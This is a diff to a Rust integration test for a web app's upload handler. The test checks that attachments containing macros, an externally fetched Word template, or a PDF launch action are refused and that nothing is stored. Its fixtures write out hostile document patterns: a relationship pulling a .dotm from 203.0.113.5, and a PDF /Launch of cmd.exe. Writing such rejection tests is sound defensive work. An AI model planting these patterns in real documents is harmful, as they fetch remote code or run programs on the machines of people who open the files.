@@ -142,6 +142,36 @@ async fn scenario(store: Store) {
     let res = editor.post(format!("{base}/admin/items/{id}/attachments")).multipart(form).send().await.expect("upload");
     assert_eq!(res.status(), StatusCode::PAYLOAD_TOO_LARGE);
     assert!(res.text().await.expect("text").contains("过大"));
+    // Active content inside an accepted type is refused too, and nothing is stored:
+    // a DOCX with a macro project, one whose template is fetched from elsewhere when
+    // opened, and a PDF that runs a program.
+    let docx = |extra: &str, data: &[u8]| -> Vec<u8> {
+        use std::io::Write;
+        let mut buf = std::io::Cursor::new(Vec::new());
+        let mut z = zip::ZipWriter::new(&mut buf);
+        let opts = zip::write::SimpleFileOptions::default();
+        z.start_file("[Content_Types].xml", opts).expect("file");
+        z.write_all(b"<Types/>").expect("write");
+        z.start_file("word/document.xml", opts).expect("file");
+        z.write_all(b"<w:document/>").expect("write");
+        z.start_file(extra, opts).expect("file");
+        z.write_all(data).expect("write");
+        z.finish().expect("finish");
+        buf.into_inner()
+    };
+    let template = br#"<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://203.0.113.5/x.dotm" TargetMode="External"/></Relationships>"#;
+    for (name, bytes, why) in [
+        ("工资表.docx", docx("word/vbaProject.bin", b"\x00"), "宏"),
+        ("通知.docx", docx("word/_rels/settings.xml.rels", template), "外部文件"),
+        ("方案.pdf", b"%PDF-1.4\n<< /S /Launch /F (cmd.exe) >>".to_vec(), "启动外部程序"),
+    ] {
+        let form = reqwest::multipart::Form::new().text("_csrf", token.clone()).part("file", reqwest::multipart::Part::bytes(bytes).file_name(name));
+        let res = editor.post(format!("{base}/admin/items/{id}/attachments")).multipart(form).send().await.expect("upload");
+        assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY, "{name}");
+        let page = res.text().await.expect("text");
+        assert!(page.contains(why) && page.contains("不能上传"), "{name}: {page}");
+    }
+    assert_eq!(store.attachments(id).await.expect("attachments").len(), 1, "nothing stored");
 
     // Submit; the editor may not approve.
     assert_eq!(action(&editor, &base, id, "submit", "").await.0, StatusCode::SEE_OTHER);
